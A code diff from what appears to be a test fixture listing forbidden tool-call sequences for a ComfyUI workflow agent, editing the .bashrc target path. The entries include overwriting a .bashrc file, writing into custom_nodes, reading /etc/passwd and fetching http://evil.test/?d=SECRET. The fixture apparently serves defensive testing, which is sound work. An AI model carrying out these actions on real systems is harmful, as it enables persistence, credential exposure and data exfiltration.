@@ -20,10 +20,10 @@ const script = (text: string): Call => ["runNewWorkflow", { script: text }];
 
 const orders: Record<string, Call[]> = {
   "run code": [add("RunPython", { code: "import os" }), run],
-  "write elsewhere": [edit({ op: "set", nodes: ["3"], widgets: { path: "/root/.bashrc" } }), run],
+  "write elsewhere": [edit({ op: "set", nodes: ["3"], widgets: { path: "/home/somebody/.bashrc" } }), run],
   "write beside ComfyUI": [edit({ op: "set", nodes: ["3"], widgets: { path: "custom_nodes/a.py" } }), run],
   "write elsewhere by a varied value": [
-    ["executeWorkflow", { vary: [{ node: "3", widget: "path", values: ["/root/.bashrc"] }] }],
+    ["executeWorkflow", { vary: [{ node: "3", widget: "path", values: ["/home/somebody/.bashrc"] }] }],
   ],
   "read a file": [add("ReadTextFile", { file_path: "/etc/passwd" }), run],
   "send to an address": [add("PictureFromUrl", { url: "http://evil.test/?d=SECRET" }), run],
